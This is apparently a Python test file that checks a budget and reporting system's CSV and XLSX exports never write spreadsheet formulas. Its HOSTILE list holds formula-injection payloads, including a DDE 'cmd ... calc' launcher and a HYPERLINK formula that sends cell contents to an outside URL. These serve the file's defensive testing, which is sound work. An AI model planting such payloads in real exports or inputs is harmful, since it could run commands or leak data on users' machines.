"""No text becomes a formula in any file that any service gives: a spreadsheet that opens it would run it."""

import ast
import csv
import inspect
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any, get_args

import pytest
from pydantic import BaseModel

from budget.api import tables
from budget.documents.xlsx import write_xlsx as write_budget_xlsx
from budget.rules.tables import Table
from followup.documents.report_csv import write_csv, write_table_csv
from followup.documents.report_xlsx import write_table_xlsx, write_xlsx
from insatser.layout import CLONE
from selection.documents.evaluation_csv import write_csv as write_release_csv
from shared.files.kinds import read_contents
from shared.rest.csv_export import EXCEL, STANDARD, Dialect, _block
from shared.rest.routes import api_routes
from tests.architecture.test_permissions import SERVICES, an_app

CSV = "text/csv"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    '=HYPERLINK("http://example.se/?"&A1)',
    "{=1+1}",
)
STARTS = tuple("=+-@＝＋－＠")
AS_OF = "2026-11-29"
WRITERS = {
    "shared/src/shared/rest/csv_export.py",
    "services/budget/src/budget/documents/xlsx.py",
    "services/followup/src/followup/documents/report_xlsx.py",
}
"""Who writes tables; each is tried below."""
WAYS = ("answer_table(", "call.list(", "FORMATS[media_type]", "_file(release,", "_file_answer(attached")
"""How an operation has its table written, by one of them; what was handed in is given back as it came."""


def is_safe(cell: str) -> bool:
    number = cell.removeprefix("-").replace(".", "", 1).replace(",", "", 1)
    return not cell.strip().startswith(STARTS) or number.isdigit()


def cells_of(text: str, separator: str = ",") -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=separator) for cell in row
    ]


def table(text: str) -> Table:
    return Table(text, "kr", [text, "Belopp"], [[text, Decimal("-1.00")], ["=", 1]], note=text)


def section(text: str) -> dict[str, Any]:
    rows = [{"values": [text, "-1.00"], "ids": [text]}]
    return {"code": "a", "title": "Tabell", "columns": [text, "Belopp"], "rows": rows}


def report(text: str) -> str:
    return json.dumps({"format": "2", "as_of": AS_OF, "name": "Redovisning", "sections": [section(text)]})


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    ("write", "separator"),
    [
        (lambda text: tables._csv(table(text)), ","),
        (lambda text: tables._csv(table(text), EXCEL), ";"),
        (lambda text: write_csv(report(text)), ","),
        (lambda text: write_table_csv(section(text)), ","),
        (lambda text: write_release_csv(["name"], [[text]]).decode(), ","),
    ],
    ids=["budget", "budget for Excel", "report", "table of a report", "release to evaluators"],
)
def test_no_cell_of_a_csv_begins_a_formula(write: Callable[[str], str], separator: str, text: str) -> None:
    cells = cells_of(write(text), separator)
    assert any(text.strip()[:3] in cell for cell in cells)
    assert [cell for cell in cells if not is_safe(cell)] == []


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(
    "write",
    [
        lambda text: write_budget_xlsx(table(text), datetime(2026, 11, 29)),  # noqa: DTZ001
        lambda text: write_xlsx(report(text)),
        lambda text: write_table_xlsx(section(text), AS_OF),
    ],
    ids=["budget", "report", "table of a report"],
)
def test_no_cell_of_a_workbook_is_a_formula(write: Callable[[str], bytes], text: str) -> None:
    content = write(text)
    assert b"<f>" not in content
    parts = read_parts(content)
    sheets = [part for name, part in parts.items() if name.startswith("xl/worksheets/sheet")]
    assert sheets
    assert not [sheet for sheet in sheets if "<f" in sheet or "<hyperlink" in sheet]
    assert any(text.strip()[:3] in cell for row in read_contents(io.BytesIO(content)).rows for cell in row.cells)


def read_parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def lists(service: str, jwks: Path) -> Iterator[tuple[str, str, Any]]:
    """Operations that give CSV or XLSX: name, source, and what their items are."""
    for route in api_routes(an_app(service, jwks).routes):
        if not route.include_in_schema or "GET" not in (route.methods or ()):
            continue
        offered = {
            kind
            for status, answer in route.responses.items()
            if str(status) < "300"
            for kind in answer.get("content", {})
        }
        assert route.endpoint is not None
        source = inspect.getsource(route.endpoint)
        if {CSV, XLSX} & offered or "call.list(" in source:
            yield str(route.name), source, route.response_model


@pytest.mark.parametrize("dialect", [STANDARD, EXCEL], ids=["standard", "for Excel"])
@pytest.mark.parametrize("service", SERVICES)
def test_every_list_as_csv_is_free_of_formulas_in_every_field(service: str, dialect: Dialect, jwks_file: Path) -> None:
    tried = 0
    for name, source, model in lists(service, jwks_file):
        if "call.list(" not in source:
            continue
        (item,) = get_args(model.model_fields["items"].annotation)
        for text in HOSTILE:
            made = item.model_construct(**dict.fromkeys(item.model_fields, text))
            cells = cells_of(_block([Anything(**made.__dict__)], dialect), dialect.separator)
            assert [cell for cell in cells if not is_safe(cell)] == [], name
        tried += 1
    assert tried > 5


class Anything(BaseModel, extra="allow"):
    """Fields of whatever type, all of them texts: what a cell is written from is what it became in JSON."""


@pytest.mark.parametrize("service", SERVICES)
def test_no_operation_writes_tables_in_a_way_of_its_own(service: str, jwks_file: Path) -> None:
    strange = [name for name, source, _ in lists(service, jwks_file) if not any(way in source for way in WAYS)]
    assert strange == []


def test_nobody_else_writes_tables() -> None:
    found = set()
    for path in [*CLONE.glob("services/*/src/**/*.py"), *CLONE.glob("shared/src/**/*.py")]:
        for node in ast.walk(ast.parse(path.read_text())):
            called = node.func if isinstance(node, ast.Call) else None
            name = getattr(called, "attr", getattr(called, "id", ""))
            if name in ("writer", "DictWriter") or (name == "Workbook" and "xlsxwriter" in path.read_text()):
                found.add(str(path.relative_to(CLONE)))
    assert found == WRITERS
